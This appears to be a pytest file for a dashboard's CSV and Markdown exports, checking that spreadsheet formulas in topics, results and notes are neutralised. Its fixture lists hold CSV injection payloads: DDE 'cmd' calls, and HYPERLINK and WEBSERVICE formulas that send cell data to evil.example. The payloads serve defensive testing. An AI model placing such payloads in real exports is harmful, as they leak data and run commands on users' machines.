import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest

from crewdash.base.errors import ExportFormatError
from crewdash.model.batch import Batch, TokenUsage
from crewdash.present.exports import csv_cell, csv_text, export

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_a_spreadsheet_never_sees_a_formula_in_topics_results_or_errors() -> None:
    topics = [f"topic {i}" for i in range(len(FORMULAS))]
    batch = Batch("b", "timing", FORMULAS, model_label="m", max_concurrency=2, model="gpt-4o")
    for run_id, formula, topic in zip(batch.run_ids, FORMULAS, topics, strict=True):
        batch.mark_running(run_id)
        if formula.startswith("@"):
            batch.mark_failed(run_id, formula)
        else:
            batch.mark_succeeded(run_id, formula, TokenUsage(10, 5, 15))
    parsed = rows(export(batch.snapshot(), "csv"))
    assert [r["topic"] for r in parsed] == ["'" + f for f in FORMULAS]
    for row, formula in zip(parsed, FORMULAS, strict=True):
        cell = row["error"] if formula.startswith("@") else row["result"]
        assert cell == "'" + formula
        # numeric columns are still plain numbers
        assert row["index"].isdigit() and float(row["duration_s"]) >= 0
    assert parsed[0]["cost_usd"] == "0.00007500"


def test_text_with_a_separator_is_quoted_so_no_spreadsheet_splits_it() -> None:
    assert csv_cell("a;=1+1") == '"a;=1+1"'
    assert csv_cell("a\t=1+1") == '"a\t=1+1"'
    assert csv_cell('say "hi", then go') == '"say ""hi"", then go"'
    assert csv_cell("plain words") == "plain words"


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert csv_cell(-3) == "-3"
    assert csv_cell(-1.5) == "-1.5"
    assert csv_cell(Decimal("-2.000")) == "-2.000"
    assert csv_cell(Decimal("0.00000015")) == "0.00000015"
    assert csv_cell(None) == ""
    assert csv_cell("-3") == "-3"  # a number as text is still read as a number, nothing runs
    assert csv_cell("-1,234.5") == '"-1,234.5"'
    assert csv_cell("+2.5e-3") == "+2.5e-3"


DANGEROUS = [
    *FORMULAS,  # "-2+3" evaluates to 1
    "- 2+3",
    "+A1",
    "--1",
    '- see WEBSERVICE("http://evil.example/?"&A1)',  # a list item that calls a function
    '- see WEBSERVICE ("http://evil.example/")',
    "- x cmd|' /C calc'!A0",  # DDE
    "+ value of 'http://evil.example/[book.xlsx]Sheet1'!A1",  # another file's cell
    "-\tindented",
    "-",
]
READABLE = [
    "- first point",
    "- first point\n- second point, with a [link](https://example.com)",
    "+ a plus-sign list item",
    "- **bold** lead: then words.",
    "-5",
    "-0.25",
    "+3",
    "plain - with a dash inside",
    "a = b",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_would_evaluate_is_neutralised(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_cell(text) + "\r\n", newline=""))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", READABLE)
def test_bulleted_answers_and_negative_numbers_stay_as_written(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_cell(text) + "\r\n", newline=""))
    assert row == [text]


def test_a_bulleted_answer_in_the_batch_export_has_no_apostrophe() -> None:
    answer = "- first point\n- second point"
    batch = Batch("b", "timing", ["- a bulleted topic", "-2+3"], model_label="m", max_concurrency=2)
    for run_id in batch.run_ids:
        batch.mark_running(run_id)
        batch.mark_succeeded(run_id, answer, TokenUsage(1, 1, 2))
    parsed = rows(export(batch.snapshot(), "csv"))
    assert [r["topic"] for r in parsed] == ["- a bulleted topic", "'-2+3"]
    assert [r["result"] for r in parsed] == [answer, answer]


def test_the_dashboards_table_download_is_off() -> None:
    """st.dataframe's own "Download as CSV" writes cells as they are (formulas included): the
    dashboard offers the batch's Download CSV button (neutralised) instead."""
    code = "from streamlit import config; print(config.get_option('client.disableDataExport'))"
    result = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert result.stdout.strip() == "True"


@pytest.mark.parametrize("value", ["", "a", "ok, fine", "line\nbreak", "x" * 50])
def test_ordinary_text_reads_back_unchanged(value: str) -> None:
    batch = Batch("b", "r", ["t"], model_label="m", max_concurrency=1)
    batch.mark_running(batch.run_ids[0])
    batch.mark_succeeded(batch.run_ids[0], value, None)
    assert rows(export(batch.snapshot(), "csv"))[0]["result"] == value


def test_every_task_output_inputs_and_files_are_in_each_export() -> None:
    from crewdash.model.batch import CrewState, TaskResult

    batch = Batch(
        "p",
        "analyst_crew",
        ["rust"],
        model_label="m",
        max_concurrency=1,
        inputs=[{"topic": "rust", "audience": "=CTOs"}],
        kind="crew",
    )
    run_id = batch.run_ids[0]
    batch.mark_running(run_id)
    tasks = [
        TaskResult("1", "gather", "- rust facts", "Scout"),
        TaskResult("2", "brief", "=SUM(1)"),
    ]
    batch.end(
        batch.ending(run_id, CrewState.SUCCEEDED, result="final", tasks=tasks, files=["report.md"])
    )
    snap = batch.snapshot()
    row = rows(export(snap, "csv"))[0]
    assert json.loads(row["inputs"]) == {"topic": "rust", "audience": "=CTOs"}
    assert json.loads(row["tasks"]) == [
        {"name": "gather", "output": "- rust facts"},
        {"name": "brief", "output": "=SUM(1)"},
    ]
    assert row["files"] == "report.md"
    md = export(snap, "md")
    assert "#### Task gather (Scout)\n\n- rust facts" in md and "#### Task brief" in md
    assert "Files: `report.md`" in md and "analyst_crew (crew)" in md
    data = json.loads(export(snap, "json"))
    assert data["kind"] == "crew" and data["crews"][0]["files"] == ["report.md"]
    assert [t["name"] for t in data["crews"][0]["tasks"]] == ["gather", "brief"]


def test_the_experiment_grid_csv_follows_the_same_rule() -> None:
    from crewdash.experiments.spec import ExperimentSpec, Variant, build_grid
    from crewdash.experiments.store import CellNotes
    from crewdash.present.experiment_exports import grid_csv

    topics = ("- a bulleted topic", "=1+1")
    spec = ExperimentSpec(topics, (Variant("a", model="demo-fast"), Variant("b")))
    crews = [t for t in topics for _ in "ab"]
    batch = Batch("e", "experiment", crews, model_label="demo", max_concurrency=4)
    for run_id in batch.run_ids:
        batch.mark_running(run_id)
        batch.mark_succeeded(run_id, "- first point", TokenUsage(1, 1, 2))
    notes = {0: CellNotes(note="- kept as written"), 1: CellNotes(note="@SUM(A1:A2)")}
    grid = build_grid("e", spec, batch.snapshot(), notes)
    cells = [r for r in csv.reader(io.StringIO(grid_csv(grid), newline="")) if r[0] == "cell"]
    assert [r[1] for r in cells] == ["- a bulleted topic"] * 2 + ["'=1+1"] * 2
    assert [r[10] for r in cells[:2]] == ["- kept as written", "'@SUM(A1:A2)"]


def test_csv_text_separates_with_a_delimiter_csv_cell_quotes_and_no_other() -> None:
    assert csv_text([["a;b", "c"]], ";") == '"a;b";c\r\n'
    assert csv_text([["a\tb", "c"]], "\t") == '"a\tb"\tc\r\n'
    with pytest.raises(ExportFormatError, match=r"unsupported CSV delimiter '\|'"):
        csv_text([["a|b"]], "|")  # csv_cell does not quote "|": the cell would split
